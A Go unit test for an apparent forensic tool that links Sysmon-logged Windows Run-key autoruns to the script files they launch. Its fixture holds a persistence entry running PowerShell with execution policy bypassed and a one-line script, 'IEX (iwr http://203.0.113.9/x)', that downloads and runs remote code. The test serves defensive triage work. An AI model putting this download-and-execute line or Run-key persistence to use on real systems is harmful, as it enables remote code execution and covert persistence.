package runkeypayloads

import (
	"context"
	"os"
	"path/filepath"
	"testing"
)

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

// A collection holding only a Sysmon log still reads the script its
// logged autorun runs from inside the collection; outside one, the same
// event gives payload_exists = 0 and the host is never read.
func TestEventsOnlyCollectionResolvesPayloads(t *testing.T) {
	event := `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>13</EventID><TimeCreated SystemTime='2024-03-12T09:15:06.3859316Z'/><EventRecordID>7</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WIN-DEMO01</Computer></System><EventData><Data Name='EventType'>SetValue</Data><Data Name='UtcTime'>2024-03-12 09:15:06.376</Data><Data Name='ProcessGuid'>{7E4A21B0-1D85-65F0-4A02-000000002200}</Data><Data Name='ProcessId'>4712</Data><Data Name='Image'>C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data><Data Name='TargetObject'>HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater</Data><Data Name='Details'>powershell.exe -ExecutionPolicy Bypass -File C:\Users\Public\up.ps1</Data></EventData></Event>` + "\n"
	root := t.TempDir()
	write(t, filepath.Join(root, "C", "Windows", "System32", "winevt", "Logs", "sysmon.xml"), event)
	write(t, filepath.Join(root, "C", "Users", "Public", "up.ps1"), "IEX (iwr http://203.0.113.9/x)\r\n")
	loose := filepath.Join(t.TempDir(), "sysmon.xml")
	write(t, loose, event)
	for source, want := range map[string]string{root: "1", loose: "0"} {
		rows, err := New(Options{}).Rows(context.Background(), map[string]string{"source": source})
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, r := range rows {
			if r["payload_path"] == `C:\Users\Public\up.ps1` {
				found = true
				if r["payload_exists"] != want {
					t.Errorf("%s: payload_exists = %s, want %s (%v)", source, r["payload_exists"], want, r)
				}
			}
		}
		if !found {
			t.Errorf("%s: no row for the script payload: %v", source, rows)
		}
	}
}
